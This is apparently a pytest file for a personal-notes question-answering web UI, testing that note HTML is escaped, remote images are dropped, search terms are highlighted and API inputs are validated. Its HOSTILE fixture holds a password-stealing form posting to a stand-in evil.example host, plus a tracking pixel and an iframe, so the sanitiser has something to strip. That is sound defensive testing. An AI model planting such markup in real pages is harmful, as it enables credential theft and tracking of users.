"""What the web UI renders from notes and answers (no browser: the HTML it hands to Gradio)."""

import re

from notebot.apps.ui import _api_input_problem, _plain, _turns, highlight, highlight_terms, relevance, render_answer, render_sources
from notebot.records import Answer, Chunk, Hit

HOSTILE = ('S3 加密：SSE-KMS <form action="http://evil.example/steal"><input type="password"></form> '
           '![pixel](http://evil.example/p.png) <iframe src="http://evil.example/f"></iframe> A &amp; B')


def answer_quoting(text: str) -> Answer:
    chunk = Chunk(id="c1", file="s3.md", headings=("S3",), line_start=3, line_end=3, text=text)
    return Answer(question="S3 加密", text=f"根据你的笔记：\n\n- {text} [1]\n\n```\na\n\nb\n```", lang="zh",
                  refused=False, hits=[Hit(chunk, 0.03, 1)], answerer="extractive")


def test_note_html_in_an_answer_becomes_text_and_images_their_description():
    rendered = render_answer(answer_quoting(HOSTILE))
    assert "<form" not in rendered and "<input" not in rendered and "<iframe" not in rendered
    assert "&lt;form action=" in rendered and "[图片 image: pixel]" in rendered
    assert "http://evil.example/p.png" not in rendered
    assert '<a class="nb-cite" href="#src-1">[1]</a>' in rendered
    assert "\n" not in rendered, "one line: the chat's markdown renderer takes it as one HTML block"


def test_chat_history_reads_the_answer_back_as_plain_text_and_the_question_as_typed():
    rendered = render_answer(answer_quoting("A < B"))
    assert _plain(rendered).startswith("根据你的笔记：") and "A < B [1]" in _plain(rendered)
    turns = _turns([{"role": "user", "content": "What is <T> in Java?"}, {"role": "assistant", "content": rendered}])
    assert turns == [("What is <T> in Java?", _plain(rendered))]


def test_sources_show_note_html_as_text_and_no_remote_images():
    sources = render_sources(answer_quoting(HOSTILE), "S3 加密")
    assert "<form" not in sources and "<img" not in sources and "evil.example/p.png" not in sources


def test_highlighting_skips_particle_bigrams_and_never_marks_inside_entities():
    terms = highlight_terms("数据湖的数据怎么加密，最大多大")
    assert "数据" in terms and "加密" in terms
    assert not {"的数", "湖的", "怎么", "么加", "大多", "多大"} & set(terms) and "最大" in terms
    assert highlight("<p>A &amp; B amp</p>", ["amp"]) == "<p>A &amp; B <mark>amp</mark></p>"


def test_highlighting_marks_what_the_question_is_about_not_how_it_asks():
    assert highlight_terms("According to the note, how big can a DynamoDB item be?") == ["dynamodb", "item"]
    assert set(highlight_terms("用户上传的对象会被加密吗？")) == {"用户", "上传", "对象", "加密"}, "words holding 用/上/对 stay, 户上 (two words' edges) goes"


def test_relevance_is_a_label_relative_to_the_best_passage():
    assert "最相关 best match" in relevance(0.032, 0.032)
    assert "很相关 close" in relevance(0.9, 1.0) and "较弱 weak" in relevance(0.2, 1.0)
    assert 'width:50%' in relevance(4.0, 8.0)


def test_api_inputs_are_checked_with_a_clear_message():
    assert _api_input_problem("S3 多大？", 5, "hybrid") == ""
    assert "non-empty string" in _api_input_problem("  ", 5, "hybrid")
    assert "non-empty string" in _api_input_problem(None, 5, "hybrid")
    assert "from 1 to 20" in _api_input_problem("q", 10**9, "hybrid")
    assert "from 1 to 20" in _api_input_problem("q", True, "hybrid")
    assert "from 1 to 20" in _api_input_problem("q", 2.5, "hybrid")
    assert "mode must be one of" in _api_input_problem("q", 5, ["hybrid"])


def test_a_quoted_code_line_is_marked_inside_its_code_block():
    text = "## Embedding\n```python\nembedding = layers.Embedding(input_dim=10000,\n    output_dim=128, # set size\n```"
    chunk = Chunk(id="c1", file="nlp.md", headings=("Embedding",), line_start=1, line_end=5, text=text)
    answer = Answer(question="output_dim 设成了多少？", text="根据你的笔记：\n- `output_dim=128, # set size` [1]", lang="zh",
                    refused=False, hits=[Hit(chunk, 0.03, 1)], answerer="extractive", quoted={1: [4]})
    assert "<code>output_dim=128, # set size</code>" in render_answer(answer)
    sources = render_sources(answer, answer.question)
    assert re.search(r'<pre><code.*<mark class="nb-quoted">.*output_dim.*=128, # set size</mark>', sources, re.S), sources
